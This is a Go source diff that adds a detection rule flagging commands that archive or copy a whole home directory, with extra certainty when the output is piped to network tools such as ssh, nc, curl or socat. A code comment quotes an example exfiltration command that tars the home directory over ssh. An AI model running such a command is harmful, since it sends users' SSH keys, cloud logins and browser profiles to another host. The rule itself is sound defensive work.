@@ -340,3 +340,75 @@ func r19AtomicHostRules() []*Rule {
 		},
 	}
 }
+
+// homeRootRead returns the whole-home directory a recursive reader is given, "" when none:
+// the home directory itself, every user's home (/home, /Users, /home/*, /Users/*), or /,
+// also when an unset variable leaves "$HOME/$USERNAME" as home itself. A copy or archive of
+// one carries every credential store under it (SSH and GPG keys, cloud logins, browser
+// profiles, keychains): ATT&CK T1560.001 (Archive via Utility), T1074 (Data Staged).
+func homeRootRead(c *execCtx, s *Segment) string {
+	switch s.Name() {
+	case "tar", "bsdtar", "gtar", "zip", "7z", "7za", "rsync", "cp", "scp", "ditto", "rclone", "pax", "cpio":
+		if !readsRecursively(s) && s.Name() != "ditto" && s.Name() != "pax" {
+			return ""
+		}
+	default:
+		if !objectStoreTreeCopy(s) {
+			return "" // grep -r, rg: they print matching lines, not the files
+		}
+	}
+	written := map[string]bool{}
+	for _, t := range writeTargets(c, s) {
+		written[t.arg] = true
+	}
+	for _, p := range s.positional(0, "-f", "--file", "-C", "--directory", "-X", "--exclude-from", "-T", "--files-from", "-x", "-i", "-e", "--exclude", "--include", "--filter", "-p", "--password") {
+		if written[p] || strings.Contains(p, "://") || strings.Contains(p, ":") && !strings.HasPrefix(p, "/") {
+			continue
+		}
+		if root, _ := emptyVarRoot(c, s, p); root != "" {
+			return p + " (" + root + " once the unset variable is empty)"
+		}
+		switch strings.TrimSuffix(p, "/") {
+		case "/home/*", "/Users/*", "/home", "/Users", "":
+			return p
+		}
+		t := c.target(p)
+		if t.abs != "" && (t.abs == c.scope.Home || t.abs == "/" || t.abs == "/home" || t.abs == "/Users" || t.abs == "/root") {
+			return p
+		}
+	}
+	return ""
+}
+
+// homeArchiveSent says why a whole-home copy is certain: its output is piped to a program
+// that sends it to another machine (tar czf - ~ | ssh host 'cat > h.tgz'), which puts every
+// credential store under home on a host that is not the project's own (docs/policy.md:
+// sending secrets or credentials to any host that is not the project's own).
+func homeArchiveSent(c *execCtx, s *Segment) string {
+	for _, seg := range c.segs {
+		for in := seg.PipeIn; in != nil; in = in.PipeIn {
+			if in != s {
+				continue
+			}
+			switch seg.Name() {
+			case "ssh", "nc", "ncat", "netcat", "socat", "curl", "wget", "scp", "sftp", "aws", "gsutil", "rclone", "telnet":
+				return "its output is sent to another machine with " + seg.Name() + " (docs/policy.md: sending credentials to a host that is not the project's own)"
+			}
+		}
+	}
+	return ""
+}
+
+func r19HomeArchiveRules() []*Rule {
+	return []*Rule{{
+		ID: "cred.home-archive", Level: High, Category: CatCredentialAccess,
+		CertainWhen: "the copy is piped to a program that sends it to another machine",
+		Message:     "Copies or archives a whole home directory, with every credential store under it",
+		exec: func(c *execCtx, s *Segment) (string, bool) {
+			if root := homeRootRead(c, s); root != "" {
+				return "Runs " + s.Name() + " over " + root + ", reading every SSH key, cloud login and browser profile under it", true
+			}
+			return "", false
+		},
+	}}
+}
